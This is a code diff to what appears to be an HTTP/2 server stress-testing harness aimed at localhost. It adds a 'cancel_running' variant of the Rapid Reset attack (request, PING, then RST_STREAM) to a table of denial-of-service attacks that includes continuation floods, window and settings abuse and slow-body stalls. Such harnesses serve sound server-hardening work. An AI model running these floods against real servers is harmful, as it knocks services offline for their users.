@@ -25,6 +25,7 @@ class Client:
         context = ssl._create_unverified_context()
         context.set_alpn_protocols(["h2"])
         plain = socket.create_connection(("127.0.0.1", job["port"]), timeout=10)
+        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.tls = context.wrap_socket(plain, server_hostname="localhost")
         self.began = time.time()
         self.buffer = b""
@@ -127,6 +128,18 @@ def streams(count, first=1):
 
 def rapid_reset(client, count):
     client.flood(client.get(s) + frame(RST, 0, s, (8).to_bytes(4, "big")) for s in streams(count))
+
+
+def cancel_running(client, count):
+    """Each request is under way when it is cancelled."""
+    for s in streams(count):
+        acks = client.out["acks"]
+        if not client.send(client.get(s) + frame(PING, 0, 0, bytes(8))):
+            return
+        client.listen(lambda: client.out["acks"] > acks, 5)
+        if not client.send(frame(RST, 0, s, (8).to_bytes(4, "big"))):
+            return
+        client.out["sent"] += 1
 
 
 def made_you_reset(client, count):
@@ -276,8 +289,8 @@ def idle(client, count):
 
 
 ATTACKS = {f.__name__: f for f in (
-    rapid_reset, made_you_reset, continuation, empty_continuation, ping, settings, empty_data,
-    priority, window_update, bomb, crumbs, header, header_in_many, half_head, many_streams, sockets,
+    rapid_reset, cancel_running, made_you_reset, continuation, empty_continuation, ping, settings,
+    empty_data, priority, window_update, bomb, crumbs, header, header_in_many, half_head, many_streams, sockets,
     zero_window, thaw, busy_stall, slow_body, after_answer, frames, idle,
 )}
 WINDOWS = {"zero_window": 0, "thaw": 0, "busy_stall": 100, "bomb": 0}
